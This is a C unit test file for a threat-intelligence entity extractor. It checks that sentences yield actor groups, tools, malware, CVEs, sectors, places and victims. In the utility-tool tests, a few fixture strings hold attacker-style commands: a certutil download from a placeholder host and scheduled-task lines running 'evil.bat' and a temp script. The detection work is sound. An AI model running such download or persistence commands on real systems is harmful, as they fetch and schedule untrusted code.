/*
 * Unit tests of the entity stage (src/lib/entity) on sentences written for
 * them: ordinary-word aliases reported only with capitals and support,
 * OS utilities only when shown run, each kind of new-name rule, tracking
 * ids, KEV fields of CVE ids, sectors, countries and regions with their
 * role, victims, mention spans, and the embedded vocabularies.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "ctix/entity.h"
#include "ctix/kb.h"
#include "entity/entity_internal.h"

/* The entities of `text` (Markdown); the caller frees both. */
static ctix_entity_list *run(const char *text, ctix_document **doc)
{
  ctix_doc_options dopts;
  ctix_entity_list *list = NULL;
  ctix_error err;
  ctix_doc_options_init(&dopts);
  dopts.format = CTIX_FORMAT_MARKDOWN;
  ctix_error_clear(&err);
  assert_int_equal(ctix_document_parse(doc, text, strlen(text), &dopts, &err), 0);
  assert_int_equal(ctix_entity_extract(&list, *doc, NULL, NULL, &err), 0);
  assert_non_null(list);
  return list;
}

static const ctix_entity *find(const ctix_entity_list *l, ctix_entity_kind kind, const char *name)
{
  for (size_t i = 0; i < l->count; i++)
    if (l->items[i].kind == kind && strcmp(l->items[i].name, name) == 0)
      return &l->items[i];
  return NULL;
}

/* The number of entities of `kind` in `text` named `name` (any name if
 * NULL). */
static size_t count(const char *text, ctix_entity_kind kind, const char *name)
{
  ctix_document *doc = NULL;
  ctix_entity_list *l = run(text, &doc);
  size_t n = 0;
  for (size_t i = 0; i < l->count; i++)
    n += l->items[i].kind == kind && (!name || strcmp(l->items[i].name, name) == 0);
  ctix_entity_list_free(l);
  ctix_document_free(doc);
  return n;
}

/* True when some entity of `kind` has `name` as name. */
static bool has(const char *text, ctix_entity_kind kind, const char *name)
{
  return count(text, kind, name) > 0;
}

static void test_known_alias(void **state)
{
  (void)state;
  ctix_document *doc = NULL;
  const char *text = "Researchers linked the intrusions to HIDDEN COBRA, a North Korean actor.";
  ctix_entity_list *l = run(text, &doc);
  const ctix_entity *e = find(l, CTIX_ENTITY_GROUP, "Lazarus Group");
  assert_non_null(e);
  assert_true(e->known);
  assert_string_equal(e->id, "G0032");
  assert_non_null(e->stix_id);
  assert_string_equal(e->role, "named by the source");
  assert_int_equal(e->nmentions, 1);
  /* The mention spans the alias as written. */
  assert_int_equal(e->mentions[0].end - e->mentions[0].start, strlen("HIDDEN COBRA"));
  assert_memory_equal(doc->text + e->mentions[0].start, "HIDDEN COBRA", 12);
  assert_string_equal(e->mentions[0].alias, "HIDDEN COBRA");
  /* North Korea is a place. */
  assert_non_null(find(l, CTIX_ENTITY_LOCATION, "North Korea"));
  ctix_entity_list_free(l);
  ctix_document_free(doc);
}

static void test_ambiguous_word(void **state)
{
  (void)state;
  /* "Equation" (G0020) is an ordinary word. */
  assert_false(has("Equation solving is taught in school. The results were clear.",
                   CTIX_ENTITY_GROUP, "Equation"));
  assert_false(has("The Equation was simple and everyone solved it.", CTIX_ENTITY_GROUP,
                   "Equation"));
  assert_true(has("The Equation group used a new implant against telecom targets.",
                  CTIX_ENTITY_GROUP, "Equation"));
  /* Lower case never counts, context or not. */
  assert_false(has("The equation group of the paper was solved by the actor.", CTIX_ENTITY_GROUP,
                   "Equation"));
  /* Support from another ATT&CK entity in the same sentence. */
  assert_true(has("Both Equation and Mimikatz appear in the same table.", CTIX_ENTITY_GROUP,
                  "Equation"));
  /* A short form of "Lazarus Group" needs support too. */
  assert_false(has("Lazarus rose from the dead in the story.", CTIX_ENTITY_GROUP,
                   "Lazarus Group"));
  assert_true(has("The Lazarus hackers breached six companies.", CTIX_ENTITY_GROUP,
                  "Lazarus Group"));
}

static void test_utility(void **state)
{
  (void)state;
  /* "Net" (S0039) is reported only when shown run. */
  assert_false(has("We met at the office and checked the net income.", CTIX_ENTITY_TOOL, "Net"));
  assert_true(has("The attackers ran net.exe to list the domain users.", CTIX_ENTITY_TOOL, "Net"));
  assert_true(has("They then ran net /domain user to list accounts.", CTIX_ENTITY_TOOL, "Net"));
  assert_false(has("Meet me at noon.", CTIX_ENTITY_TOOL, "at"));
  assert_false(has("The retry is scheduled at -1 seconds.", CTIX_ENTITY_TOOL, "at"));
  /* A path after the word is no switch; a switch is. */
  assert_false(has("The implant copies the binary located at /usr/bin/lina_cs to memory.",
                   CTIX_ENTITY_TOOL, "at"));
  assert_true(has("The operators ran at /every:M 10:00 evil.bat on the host.", CTIX_ENTITY_TOOL, "at"));
  /* In a code block only where a command starts, not in log output. */
  assert_false(has("The log:\n\n```\n2025-04-03 15:44:50 - INFO - started function at 0x140025098\n```\n",
                   CTIX_ENTITY_TOOL, "at"));
  assert_true(has("The script:\n\n```\n$ at 10:00 /tmp/run.sh\n```\n", CTIX_ENTITY_TOOL, "at"));
  assert_true(has("The script:\n\n```\ncmd /c at 10:00 run.bat\n```\n", CTIX_ENTITY_TOOL, "at"));
  /* ... or followed by a switch inside a quoted command line. */
  assert_true(has("The loader:\n\n```\npowershell -c \"certutil -urlcache -f http://a.example/x x\"\n```\n",
                  CTIX_ENTITY_TOOL, "certutil"));
}

/* Tools ATT&CK does not list come from data/entity/tools.tsv: known, with
 * no ATT&CK id; an ordinary word among them needs a capital and support. */
static void test_listed_tools(void **state)
{
  ctix_document *doc = NULL;
  (void)state;
  ctix_entity_list *l = run("The affiliates installed AnyDesk and used WinSCP to move files.", &doc);
  const ctix_entity *e = find(l, CTIX_ENTITY_TOOL, "AnyDesk");
  assert_non_null(e);
  assert_true(e->known);
  assert_null(e->id);
  assert_int_equal(e->ref, CTIX_KB_NONE);
  assert_non_null(find(l, CTIX_ENTITY_TOOL, "WinSCP"));
  ctix_entity_list_free(l);
  ctix_document_free(doc);
  /* Other names map to the table's name. */
  assert_true(has("They connected with ConnectWise Control.", CTIX_ENTITY_TOOL, "ScreenConnect"));
  /* An ordinary word: a capital and a context word. */
  assert_true(has("The operators used Slack to stage the stolen files.", CTIX_ENTITY_TOOL, "Slack"));
  assert_false(has("The operators left some slack in the schedule.", CTIX_ENTITY_TOOL, "Slack"));
  assert_false(has("Analysts found Slack in the schedule.", CTIX_ENTITY_TOOL, "Slack"));
  /* A name of ordinary words needs its capitals. */
  assert_false(has("The malware prints a simple help message.", CTIX_ENTITY_TOOL, "SimpleHelp"));
  assert_true(has("The actors installed Simple Help on the server.", CTIX_ENTITY_TOOL, "SimpleHelp"));
  assert_true(has("They used Rockwell's Studio 5000 Logix Designer to load logic.", CTIX_ENTITY_TOOL,
                  "Studio 5000"));
  /* Introduced by a rule: the evidence names the table, not ATT&CK. */
  l = run("The actors deployed the AnyDesk tool for access.", &doc);
  e = find(l, CTIX_ENTITY_TOOL, "AnyDesk");
  assert_non_null(e);
  assert_null(strstr(e->evidence, "ATT&CK"));
  ctix_entity_list_free(l);
  ctix_document_free(doc);
  /* A name ATT&CK has stays ATT&CK's. */
  l = run("The actors used Rclone to copy the data.", &doc);
  e = find(l, CTIX_ENTITY_TOOL, "Rclone");
  assert_non_null(e);
  assert_non_null(e->id);
  ctix_entity_list_free(l);
  ctix_document_free(doc);
}

/* A knowledge base other than the default one gets its own names, built
 * for the call, and finds what the default one finds. */
static void test_other_kb(void **state)
{
  ctix_kb *kb = NULL;
  ctix_document *doc = NULL;
  ctix_doc_options dopts;
  ctix_entity_options eopts;
  ctix_entity_list *l = NULL;
  ctix_error err;
  (void)state;
  ctix_error_clear(&err);
  assert_int_equal(ctix_kb_open_embedded(&kb, &err), 0);
  ctix_doc_options_init(&dopts);
  dopts.format = CTIX_FORMAT_MARKDOWN;
  const char *text = "The Lazarus Group deployed ThreatNeedle and used AnyDesk.";
  assert_int_equal(ctix_document_parse(&doc, text, strlen(text), &dopts, &err), 0);
  ctix_entity_options_init(&eopts);
  eopts.kb = kb;
  for (int round = 0; round < 2; round++) {
    assert_int_equal(ctix_entity_extract(&l, doc, NULL, &eopts, &err), 0);
    assert_non_null(find(l, CTIX_ENTITY_GROUP, "Lazarus Group"));
    assert_non_null(find(l, CTIX_ENTITY_MALWARE, "ThreatNeedle"));
    assert_non_null(find(l, CTIX_ENTITY_TOOL, "AnyDesk"));
    ctix_entity_list_free(l);
    l = NULL;
  }
  ctix_document_free(doc);
  ctix_kb_free(kb);
}

/* New tool names come from prose, not from titles, compounds or the names
 * of ATT&CK's matrices. */
static void test_new_tool_names(void **state)
{
  (void)state;
  assert_true(has("The actors deployed the Gorgon tool on the servers.", CTIX_ENTITY_TOOL, "Gorgon"));
  assert_false(has("See the Leveraged Tools section for a full list.", CTIX_ENTITY_TOOL, "Leveraged"));
  assert_false(has("Use the Eviction Strategies Tool to plan the eviction.", CTIX_ENTITY_TOOL,
                   "Eviction Strategies"));
  assert_false(has("This advisory uses the MITRE ATT&CK Matrix for Enterprise framework, version 18.",
                   CTIX_ENTITY_TOOL, "Enterprise"));
  /* ... which may still be part of a name. */
  assert_true(has("Midnight Blizzard breached Hewlett Packard Enterprise in 2023.", CTIX_ENTITY_VICTIM,
                  "Hewlett Packard Enterprise"));
  assert_false(has("This advisory uses the MITRE ATT&CK Matrix for Enterprise12 framework, version 19.",
                   CTIX_ENTITY_TOOL, "Enterprise12"));
  assert_false(has("| Mimikatz | Post-exploitation tool that dumps credentials. |", CTIX_ENTITY_TOOL,
                   "Post-exploitation"));
  assert_true(has("They staged data with tools including Gorgon and Zephyrine.", CTIX_ENTITY_TOOL,
                  "Zephyrine"));
}

static void test_new_names(void **state)
{
  (void)state;
  ctix_document *doc = NULL;
  ctix_entity_list *l =
      run("The Zorvex ransomware encrypted the servers of the firm.\n\n"
          "The Quillmoor ransomware gang claimed the attack on its leak site.\n\n"
          "Microsoft tracks the activity as Storm-9917 and links it to UNC8812.\n\n"
          "The loader, dubbed GlintHook, fetches a second stage.\n\n"
          "Analysts attribute it to a threat actor tracked as Velvet Anchor.\n\n"
          "The Brasswing group (aka Copper Heron) targeted ministries.\n\n"
          "The intruders deployed the ‘NightWeave’ backdoor and the ‘SpoolTap’ implant.\n",
          &doc);
  const ctix_entity *e = find(l, CTIX_ENTITY_MALWARE, "Zorvex");
  assert_non_null(e);
  assert_false(e->known);
  assert_true(e->confidence > 0.0f && e->confidence < 0.9f);
  assert_non_null(e->evidence);
  assert_non_null(find(l, CTIX_ENTITY_GROUP, "Quillmoor"));
  assert_non_null(find(l, CTIX_ENTITY_MALWARE, "Quillmoor"));
  assert_non_null(find(l, CTIX_ENTITY_GROUP, "Storm-9917"));
  assert_non_null(find(l, CTIX_ENTITY_GROUP, "UNC8812"));
  assert_non_null(find(l, CTIX_ENTITY_MALWARE, "GlintHook"));
  assert_non_null(find(l, CTIX_ENTITY_GROUP, "Velvet Anchor"));
  assert_non_null(find(l, CTIX_ENTITY_GROUP, "Brasswing"));
  assert_non_null(find(l, CTIX_ENTITY_GROUP, "Copper Heron"));
  assert_non_null(find(l, CTIX_ENTITY_MALWARE, "NightWeave"));
  assert_non_null(find(l, CTIX_ENTITY_MALWARE, "SpoolTap"));
  /* Sentence openers, platforms and adjectives are not names. */
  assert_null(find(l, CTIX_ENTITY_MALWARE, "The"));
  ctix_entity_list_free(l);
  ctix_document_free(doc);
  assert_false(has("Modern ransomware encrypts files quickly.", CTIX_ENTITY_MALWARE, "Modern"));
  assert_false(has("New Linux malware was found.", CTIX_ENTITY_MALWARE, "Linux"));
  assert_false(has("China-linked hackers breached telcos.", CTIX_ENTITY_GROUP, "China-linked"));
  /* A list introduced as malware families. */
  assert_true(has("Talos described these malware families:\n\n"
                  "* Frostpike – a dropper that starts the chain.\n"
                  "* Emberlane – the main implant.\n",
                  CTIX_ENTITY_MALWARE, "Emberlane"));
}

/* "APT" and a number is a tracking id, not a stop word with a footnote. */
static void test_apt_designator(void **state)
{
  (void)state;
  assert_true(has("The threat actor tracked as APT45 used a backdoor.", CTIX_ENTITY_GROUP, "APT45"));
  assert_true(has("APT77 sent the lures.", CTIX_ENTITY_GROUP, "APT77"));
}

static void test_new_names_off(void **state)
{
  (void)state;
  ctix_document *doc = NULL;
  ctix_doc_options dopts;
  ctix_entity_options eo;
  ctix_entity_list *l = NULL;
  const char *text = "The Zorvex ransomware hit Akira victims. Storm-9917 did it.";
  ctix_doc_options_init(&dopts);
  dopts.format = CTIX_FORMAT_TEXT;
  assert_int_equal(ctix_document_parse(&doc, text, strlen(text), &dopts, NULL), 0);
  ctix_entity_options_init(&eo);
  assert_true(eo.new_names);
  eo.new_names = false;
  assert_int_equal(ctix_entity_extract(&l, doc, NULL, &eo, NULL), 0);
  for (size_t i = 0; i < l->count; i++)
    if (l->items[i].kind <= CTIX_ENTITY_CAMPAIGN)
      assert_true(l->items[i].known);
  assert_null(find(l, CTIX_ENTITY_MALWARE, "Zorvex"));
  ctix_entity_list_free(l);
  ctix_document_free(doc);
}

static void test_kev(void **state)
{
  (void)state;
  const ctix_kb *kb;
  ctix_kb_kev kev;
  ctix_document *doc = NULL;
  assert_int_equal(ctix_kb_default(&kb, NULL), 0);
  assert_int_equal(ctix_kb_find_cve(kb, "CVE-2021-44228", 14, &kev), 0);
  ctix_entity_list *l =
      run("Attackers exploited cve-2021-44228 and CVE-1999-99999 on exposed servers.", &doc);
  const ctix_entity *e = find(l, CTIX_ENTITY_VULNERABILITY, "CVE-2021-44228");
  assert_non_null(e);
  assert_true(e->kev);
  assert_string_equal(e->id, "CVE-2021-44228");
  assert_string_equal(e->kev_date_added, kev.date_added);
  assert_string_equal(e->kev_due_date, kev.due_date);
  assert_int_equal(e->kev_ransomware, kev.known_ransomware);
  assert_string_equal(e->vendor, kev.vendor);
  assert_string_equal(e->product, kev.product);
  assert_int_equal(strlen(e->kev_date_added), 10);
  const ctix_entity *u = find(l, CTIX_ENTITY_VULNERABILITY, "CVE-1999-99999");
  assert_non_null(u);
  assert_false(u->kev);
  assert_null(u->kev_date_added);
  assert_null(u->vendor);
  ctix_entity_list_free(l);
  ctix_document_free(doc);
}

static void test_places_sectors(void **state)
{
  (void)state;
  /* A two-letter word that opens a trigger ("IT sector"). */
  assert_true(has("The group targeted IT services providers in Germany.", CTIX_ENTITY_SECTOR, "technology"));
  ctix_document *doc = NULL;
  ctix_entity_list *l = run("The group targeted hospitals in Poland.\n\n"
                            "Banks across Europe published a report.\n\n"
                            "The US and UK issued the advisory, as did the rest of us.\n",
                            &doc);
  const ctix_entity *pl = find(l, CTIX_ENTITY_LOCATION, "Poland");
  assert_non_null(pl);
  assert_string_equal(pl->id, "PL");
  assert_string_equal(pl->role, "targeted");
  const ctix_entity *hc = find(l, CTIX_ENTITY_SECTOR, "healthcare");
  assert_non_null(hc);
  assert_string_equal(hc->role, "targeted");
  const ctix_entity *fin = find(l, CTIX_ENTITY_SECTOR, "finance");
  assert_non_null(fin);
  assert_string_equal(fin->role, "mentioned");
  const ctix_entity *eu = find(l, CTIX_ENTITY_LOCATION, "Europe");
  assert_non_null(eu);
  assert_string_equal(eu->id, "europe");
  const ctix_entity *us = find(l, CTIX_ENTITY_LOCATION, "United States");
  assert_non_null(us);
  /* "US" counts, "us" does not. */
  assert_int_equal(us->nmentions, 1);
  assert_non_null(find(l, CTIX_ENTITY_LOCATION, "United Kingdom"));
  /* Kinds come in enum order. */
  for (size_t i = 1; i < l->count; i++)
    assert_true(l->items[i - 1].kind <= l->items[i].kind);
  ctix_entity_list_free(l);
  ctix_document_free(doc);
}

static void test_victims(void **state)
{
  (void)state;
  assert_true(has("Hitachi Vantara confirmed a ransomware attack last week.", CTIX_ENTITY_VICTIM,
                  "Hitachi Vantara"));
  assert_true(has("The attack on Brightwater Utilities disrupted billing.", CTIX_ENTITY_VICTIM,
                  "Brightwater Utilities"));
  /* A group is not its own victim, nor is a country. */
  assert_false(has("The attack on Poland was claimed.", CTIX_ENTITY_VICTIM, "Poland"));
  /* Kinds of systems are targets, not organisations. */
  assert_false(has("The actors compromised PLCs to interfere with operations.", CTIX_ENTITY_VICTIM, "PLCs"));
  assert_false(has("Russian actors are targeting Networking Devices worldwide.", CTIX_ENTITY_VICTIM,
                   "Networking Devices"));
  /* Titles are not read: "Actors Targeting Water and Wastewater Sector". */
  assert_false(has("See the alert Malicious Cyber Actors Targeting Acme Utilities from last year.",
                   CTIX_ENTITY_VICTIM, "Acme Utilities"));
  /* A victim keeps its place, unless only generic words follow it. */
  assert_true(has("The heist targeted Bangladesh Bank and its SWIFT terminals.", CTIX_ENTITY_VICTIM,
                  "Bangladesh Bank"));
  assert_true(has("The attack on British Airways exposed card data.", CTIX_ENTITY_VICTIM,
                  "British Airways"));
  assert_false(has("The actors breached Israeli Companies last year.", CTIX_ENTITY_VICTIM,
                   "Israeli Companies"));
  assert_false(has("The actors breached Israeli Companies last year.", CTIX_ENTITY_VICTIM, "Companies"));
  /* Names that end in a word for systems are still organisations. */
  assert_true(has("The gang claimed an attack on Lehigh Valley Health Network in February.",
                  CTIX_ENTITY_VICTIM, "Lehigh Valley Health Network"));
  assert_true(has("The breach at Thames Water disrupted billing.", CTIX_ENTITY_VICTIM, "Thames Water"));
  /* ... and so are names that end in a generic word for organisations. */
  assert_true(has("The ransomware gang breached Colonial Pipeline Company in May.", CTIX_ENTITY_VICTIM,
                  "Colonial Pipeline Company"));
  /* An apposition names a victim; "the company said" starts a new clause. */
  assert_true(has("Acme Dynamics, the Japanese chip maker, was hit.", CTIX_ENTITY_VICTIM, "Acme Dynamics"));
  assert_true(has("Acme Dynamics, a chip maker, was hit.", CTIX_ENTITY_VICTIM, "Acme Dynamics"));
  assert_false(has("In a statement for NewsDesk, the company confirmed the ransomware attack.",
                   CTIX_ENTITY_VICTIM, "NewsDesk"));
}

/* The number of victims of `text`. */
static size_t victim_count(const char *text)
{
  return count(text, CTIX_ENTITY_VICTIM, NULL);
}

/* A sentence and whether it names an entity of `kind` called `name`. */
typedef struct name_case {
  const char *text;
  ctix_entity_kind kind;
  const char *name;
  bool named;
} name_case;

static void check_cases(const name_case *cases, size_t n)
{
  for (size_t i = 0; i < n; i++)
    if (has(cases[i].text, cases[i].kind, cases[i].name) != cases[i].named)
      fail_msg("%s %s \"%s\" in: %s", cases[i].named ? "missed" : "found",
               ctix_entity_kind_name(cases[i].kind), cases[i].name, cases[i].text);
}

static const name_case legal_cases[] = {
    /* Forms after a comma, of several words, in lower case; read forwards and backwards. */
    {"Hackers breached Calder Freight, Inc. last month.", CTIX_ENTITY_VICTIM, "Calder Freight", true},
    {"Tarsis Robotics Co., Ltd. confirmed a data breach on Monday.", CTIX_ENTITY_VICTIM, "Tarsis Robotics", true},
    {"The attack on Halden Water plc was claimed by a ransomware gang.", CTIX_ENTITY_VICTIM, "Halden Water", true},
    {"The attack on Brevik Shipping GmbH disrupted deliveries.", CTIX_ENTITY_VICTIM, "Brevik Shipping", true},
    /* A legal form keeps a victim made of generic or sector words. */
    {"The attack on Energy Holdings AG disrupted billing.", CTIX_ENTITY_VICTIM, "Energy Holdings", true},
    /* "Cisco ASA" is a firewall: no victim "Cisco ASA" nor "Cisco". */
    {"The actors breached Cisco ASA firewalls last year.", CTIX_ENTITY_VICTIM, "Cisco ASA", false},
    {"The actors breached Cisco ASA firewalls last year.", CTIX_ENTITY_VICTIM, "Cisco", false},
    {"Hackers breached Equinox Fjord ASA last year.", CTIX_ENTITY_VICTIM, "Equinox Fjord", true},
    /* A legal form inside a name does not end it. */
    {"Hackers breached Energy AG Oberösterreich and stole data in the ransomware attack.", CTIX_ENTITY_VICTIM,
     "Energy AG Oberösterreich", true},
    /* A form of several words read backwards; never a name alone. */
    {"In the breach, Grupo Bimbo S.A.B. de C.V. was hit by ransomware.", CTIX_ENTITY_VICTIM, "Grupo Bimbo",
     true},
    {"In the breach, Grupo Bimbo S.A.B. de C.V. was hit by ransomware.", CTIX_ENTITY_VICTIM, "C.V.", false},
    /* Words that alone name no organisation keep their form. */
    {"The ransomware attack on Education SA disrupted schools.", CTIX_ENTITY_VICTIM, "Education SA", true},
    {"The ransomware attack on Water Co. disrupted supply.", CTIX_ENTITY_VICTIM, "Water Co.", true},
    {"The ransomware attack on Company AB disrupted supply.", CTIX_ENTITY_VICTIM, "Company AB", true},
    {"The ransomware attack on Company AB disrupted supply.", CTIX_ENTITY_VICTIM, "Company", false},
    /* "PLC" in capitals is a controller, not a legal form. */
    {"The attack on Velmora PLC was claimed.", CTIX_ENTITY_VICTIM, "Velmora", false},
    /* An organisation is no malware, nor a company behind an actor the actor. */
    {"The actors dropped the Kestrel Labs Ltd backdoor.", CTIX_ENTITY_MALWARE, "Kestrel Labs", false},
    {"The actors dropped the Kestrel Labs Ltd backdoor.", CTIX_ENTITY_MALWARE, "Kestrel Labs Ltd", false},
    {"The threat actor SkyMint (Harbin SkyMint Co., Ltd.) ran the campaign.", CTIX_ENTITY_GROUP,
     "Harbin SkyMint", false},
};

static const name_case news_cases[] = {
    /* "<descriptor>, <Name>, <disclosure verb>" */
    {"The hospital operator, Meridale Health, confirmed that attackers stole patient data.", CTIX_ENTITY_VICTIM,
     "Meridale Health", true},
    {"Norway's grid operator, Stavnet S.A., confirmed that a ransomware gang stole data.", CTIX_ENTITY_VICTIM,
     "Stavnet", true},
    /* ... not a security firm reporting it, nor outside an incident. */
    {"The security firm, Greyhollow, said the attack used a new loader.", CTIX_ENTITY_VICTIM, "Greyhollow", false},
    {"The grid operator, Stavnet, announced new tariffs for the winter.", CTIX_ENTITY_VICTIM, "Stavnet", false},
    /* "<place>'s <descriptor> <Name>" */
    {"Portugal's largest water utility Aguamar confirms data stolen in attack", CTIX_ENTITY_VICTIM, "Aguamar",
     true},
    {"Portugal’s national rail operator Trenvia was hit by a cyberattack.", CTIX_ENTITY_VICTIM, "Trenvia", true},
    {"Romania's national cybersecurity agency DNSC said the attack is under investigation.", CTIX_ENTITY_VICTIM,
     "DNSC", false},
    /* The subject of a breach disclosure about itself. */
    {"Brightline Logistics disclosed that it was hit by ransomware.", CTIX_ENTITY_VICTIM,
     "Brightline Logistics", true},
    {"Brightline Logistics confirmed that its network was breached by the ransomware gang.", CTIX_ENTITY_VICTIM,
     "Brightline Logistics", true},
    {"Brightline Logistics said it has been breached in a ransomware attack.", CTIX_ENTITY_VICTIM,
     "Brightline Logistics", true},
    {"Last week Brightline Logistics was hit by ransomware.", CTIX_ENTITY_VICTIM, "Brightline Logistics", true},
    {"Brightline Logistics disclosed its quarterly results.", CTIX_ENTITY_VICTIM, "Brightline Logistics", false},
    /* Possessives in breach context. */
    {"The gang stole documents from Harwick's network in the attack.", CTIX_ENTITY_VICTIM, "Harwick", true},
    {"Harwick's network spans three countries.", CTIX_ENTITY_VICTIM, "Harwick", false},
    /* A group's servers are no victim: the name is an entity. */
    {"The Qilin ransomware gang leaked data from Qilin's servers after the attack.", CTIX_ENTITY_VICTIM, "Qilin",
     false},
};

/* Sentences of attacks where the organisation named is no victim: who
 * reports the attack, the attacker, a product, an actor's servers. */
static const char *const not_victims[] = {
    "In a report on Tuesday, Mandiant confirmed that the hackers stole data in the ransomware attack.",
    "Palo Alto Networks disclosed that attackers exploited the flaw in attacks on firewalls.",
    "The cybersecurity firm Mandiant confirmed that hackers stole data in the attack.",
    "The cybersecurity firm Mandiant confirmed that it was targeted in the attack.",
    "Cisco Talos confirmed that the ransomware gang stole data from victims.",
    "Mandiant said it has been tracking the ransomware gang since March.",
    "According to BleepingComputer, Frostbyte has compromised more than 40 organisations in a ransomware "
    "campaign.",
    "Since March, Frostbyte has targeted dozens of hospitals with ransomware.",
    "In the attacks, Citrix NetScaler was compromised by hackers exploiting CVE-2023-3519.",
    "MOVEit Transfer was breached by the Clop ransomware gang.",
    "Ivanti Connect Secure was compromised in the attacks by Chinese hackers.",
    "According to Sophos's internal telemetry, the ransomware attacks rose in May.",
    "In the intrusion, CrowdStrike's systems detected the attackers within minutes.",
    "Law enforcement seized BlackSuit's servers after the ransomware attacks on hospitals.",
    "Europol seized Crimson Kraken's servers after the ransomware attacks.",
    /* "'s" is an "s" glued to its apostrophe. */
    "Hackers stole data from Acme s network in the attack.",
    "Hackers stole data from Acme 's network in the attack.",
    "Hackers stole data from Acme' s network in the attack.",
};

/* Who reports or carries out an attack, a product, and a possessive
 * without its apostrophe name no victim; the attacked does. */
static void test_victim_not_reporters(void **state)
{
  (void)state;
  for (size_t i = 0; i < sizeof(not_victims) / sizeof(not_victims[0]); i++)
    if (victim_count(not_victims[i]))
      fail_msg("a victim in: %s", not_victims[i]);
  /* The attacker is no victim; the attacked still is. */
  const char *shiny = "In the breach wave, ShinyHunters has breached the Salesforce instances of Google.";
  assert_false(has(shiny, CTIX_ENTITY_VICTIM, "ShinyHunters"));
  assert_true(has("Hackers stole data from Acme's network in the attack.", CTIX_ENTITY_VICTIM, "Acme"));
  assert_true(has("Activity was seen within the DNC's environment after the breach.", CTIX_ENTITY_VICTIM, "DNC"));
}

/* Sectors and victims come only from sentences that can name them: not
 * from a disclaimer, a contact notice, advice to the reader, an advisory's
 * audience, a mitigations or references section. A vendor
 * ("manufacturer"), data being "shipped" and a ransom's currency name no
 * sector; a platform whose instances, sites or accounts were hit,
 * machines (ATMs) and places name no victim. */
static void test_sector_victim_asides(void **state)
{
  (void)state;
  static const name_case cases[] = {
      {"Naming the banking sector or any firm here does not constitute an endorsement.", CTIX_ENTITY_SECTOR,
       "finance", false},
      {"The device manufacturer released a patch for the router flaw.", CTIX_ENTITY_SECTOR, "manufacturing",
       false},
      {"Organizations in the healthcare sector should apply the vendor's update.", CTIX_ENTITY_SECTOR,
       "healthcare", false},
      {"The gang targeted two hospitals in Ohio last spring.", CTIX_ENTITY_SECTOR, "healthcare", true},
      {"For water sector inquiries, write to the regional office.", CTIX_ENTITY_SECTOR, "water", false},
      {"Intended Audience: universities and schools in the region.", CTIX_ENTITY_SECTOR, "education", false},
      {"# Report\n\n## Mitigations\n\nSchools can lower the risk by segmenting their networks.",
       CTIX_ENTITY_SECTOR, "education", false},
      {"The crew targeted three manufacturers in Bavaria.", CTIX_ENTITY_SECTOR, "manufacturing", true},
      {"The crew used the manufacturers' software to reach the targeted PLCs.", CTIX_ENTITY_SECTOR,
       "manufacturing", false},
      {"Poland Energy Sector Incident Highlights Gaps", CTIX_ENTITY_SECTOR, "energy", true},
      {"The implant looks for protocols for shipping data out of the network.", CTIX_ENTITY_SECTOR,
       "transportation", false},
      {"Victims were told to send the ransom to cryptocurrency wallets.", CTIX_ENTITY_SECTOR, "crypto", false},
      {"The group targeted a cryptocurrency payment provider in Berlin.", CTIX_ENTITY_SECTOR, "crypto", true},
      {"The crew has breached Voltaro instances of several retailers.", CTIX_ENTITY_VICTIM, "Voltaro", false},
      {"The botnet ran a brute force attack on Pressly sites last week.", CTIX_ENTITY_VICTIM, "Pressly", false},
      {"The crew has breached Voltaro last month.", CTIX_ENTITY_VICTIM, "Voltaro", true},
      {"Gangs attacked ATMs across the country with the malware.", CTIX_ENTITY_VICTIM, "ATMs", false},
      {"A spear phishing campaign targeting Eastern European banks used the loader.", CTIX_ENTITY_VICTIM,
       "Eastern European", false},
      {"# Report\n\n## References\n\nA look back at the attack on Orlen Freight, 2019.", CTIX_ENTITY_VICTIM,
       "Orlen Freight", false},
      {"# Report\n\nA look back at the attack on Orlen Freight, 2019.", CTIX_ENTITY_VICTIM, "Orlen Freight",
       true},
  };
  for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
    if (has(cases[i].text, cases[i].kind, cases[i].name) != cases[i].named)
      fail_msg("%s %s in: %s", cases[i].named ? "no" : "a", cases[i].name, cases[i].text);
}

/* News wording the aside rules must leave alone: a victim's servers,
 * systems, accounts or customers name the victim; "should" names no
 * victim only as advice to the reader at a sentence's start; incident
 * response, detection or resources sections tell attacks; "inquiries",
 * "audience" and "trademark" only in a notice's shape; "manufacturer"
 * names the sector in an appositive of a sentence about an attack and as
 * a possessive before anything but a product. */
static void test_sector_victim_news(void **state)
{
  (void)state;
  static const name_case cases[] = {
      {"The intruders breached Harbrook Casinos servers and took guest records.", CTIX_ENTITY_VICTIM,
       "Harbrook Casinos", true},
      {"The crew hacked Quillon systems over the weekend.", CTIX_ENTITY_VICTIM, "Quillon", true},
      {"The gang targeted Fernvale Insurance customers with extortion texts.", CTIX_ENTITY_VICTIM,
       "Fernvale Insurance", true},
      {"Intruders compromised Brightmoor accounts on a cloud data platform.", CTIX_ENTITY_VICTIM, "Brightmoor",
       true},
      {"The ransomware attack on Lakeside Clinic devices forced ambulance diversions.", CTIX_ENTITY_VICTIM,
       "Lakeside Clinic", true},
      {"The crew targeted clinics in Texas, and organizations should update now.", CTIX_ENTITY_SECTOR,
       "healthcare", true},
      {"Victims should call the police; the crew has hit over 200 schools.", CTIX_ENTITY_SECTOR, "education",
       true},
      {"The attack on Orlen Freight, which shouldn't have happened, stopped deliveries.", CTIX_ENTITY_VICTIM,
       "Orlen Freight", true},
      {"Clinics that should have updated were hit by the ransomware.", CTIX_ENTITY_SECTOR, "healthcare", true},
      {"Operators in the energy sector should review their logs.", CTIX_ENTITY_SECTOR, "energy", false},
      {"Organizations in the banking sector shouldn't expose their portals.", CTIX_ENTITY_SECTOR, "finance",
       false},
      {"# Report\n\n## Incident Response\n\nThe crew breached Lakeside Clinic's network and encrypted servers "
       "at two hospitals.",
       CTIX_ENTITY_SECTOR, "healthcare", true},
      {"# Report\n\n## Resources\n\nThe crew breached Lakeside Clinic's network in May.", CTIX_ENTITY_VICTIM,
       "Lakeside Clinic", true},
      {"# Report\n\n## Detection\n\nThe crew encrypted servers at two hospitals.", CTIX_ENTITY_SECTOR,
       "healthcare", true},
      {"Victims of the flaw include banks and colleges; for press inquiries email the office.",
       CTIX_ENTITY_SECTOR, "finance", true},
      {"The crew's target audience was defense contractors in Japan.", CTIX_ENTITY_SECTOR, "defense", true},
      {"The ransomware attack on Harbrook Mills, a trademark dispute aside, stopped the looms.",
